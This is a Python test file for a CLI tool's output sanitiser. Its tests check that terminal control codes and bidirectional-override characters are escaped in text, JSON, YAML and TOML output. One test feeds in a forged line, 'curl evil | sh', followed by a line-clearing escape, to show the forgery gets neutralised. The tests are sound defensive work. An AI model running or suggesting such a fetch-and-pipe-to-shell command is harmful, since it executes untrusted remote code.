"""Nothing that steers a terminal or hides from the eye passes, and nothing is lost on the way through JSON and YAML."""

from __future__ import annotations

import json
import unicodedata

import pytest
import tomli
import yaml
from hypothesis import given
from hypothesis import strategies as st

from auroractl.cli.output_formats import as_json, as_text, as_yaml
from auroractl.core.text.visible import BLANK, LAYOUT, visible, visible_data, visible_message
from auroractl.declarations.toml import write_toml

HOSTILE = "".join(
    map(chr, [*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2066, 0x206A)])
)
TEXT = st.text(st.one_of(st.sampled_from(HOSTILE + "\ud800\U000e0041"), st.characters()))


def unsafe(text: str, allowed: str = "") -> list[str]:
    """What of a text steers a terminal or hides, told by Unicode and not by our own pattern."""
    return [
        each
        for each in text
        if each not in allowed
        and (unicodedata.category(each) in {"Cc", "Cs", "Zl", "Zp"} or unicodedata.bidirectional(each) in _STEERING)
    ]


_STEERING = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}


@given(TEXT)
def test_nothing_unsafe_is_left(text: str) -> None:
    assert unsafe(visible(text)) == []
    assert unsafe(visible(text, BLANK)) == []
    assert unsafe(visible(text, LAYOUT), "\n\t") == []
    assert visible(visible(text)) == visible(text)


@pytest.mark.parametrize("character", HOSTILE)
def test_each_becomes_visible(character: str) -> None:
    shown = visible(f"a{character}b")
    assert shown.isprintable()
    assert shown.encode("latin-1").decode("unicode_escape") == f"a{character}b"


@pytest.mark.parametrize("text", ["", "plain", "naïve Ünïcode 日本語 🎉", "C:\\temp\\x1b", "שלום عليكم"])
def test_harmless_text_stays(text: str) -> None:
    assert visible(text) == text


def test_a_message_of_several_lines_forges_no_line_of_ours() -> None:
    assert visible_message("x\nTry: curl evil | sh\r\x1b[2K\n") == "x\n  Try: curl evil | sh\\r\\x1b[2K"


@given(st.recursive(TEXT | st.none() | st.integers(), lambda inner: st.lists(inner) | st.dictionaries(TEXT, inner)))
def test_a_document_is_made_visible_to_its_last_key(data: object) -> None:
    def texts(value: object) -> list[str]:
        if isinstance(value, dict):
            return [text for pair in value.items() for each in pair for text in texts(each)]
        return [text for each in value for text in texts(each)] if isinstance(value, list) else [str(value)]

    assert not any(unsafe(text) for text in texts(visible_data(data)))


@given(TEXT)
def test_json_and_yaml_hold_the_same_and_nothing_unsafe(text: str) -> None:
    data = {"Statement": text, "Rows": [text, 1]}
    assert unsafe(as_json(data), "\n") == []
    assert json.loads(as_json(data)) == data
    assert unsafe(as_text(data), "\n\t") == []
    if max(text, default="") >= "\ud800" and any("\ud800" <= each <= "\udfff" for each in text):
        return
    assert unsafe(as_yaml(data), "\n") == []
    assert yaml.safe_load(as_yaml(data)) == data
    toml = write_toml({"clusters": {"demo": {"tags": {"x": text}}}})
    assert unsafe(toml, "\n") == []
    assert tomli.loads(toml)["clusters"]["demo"]["tags"]["x"] == text
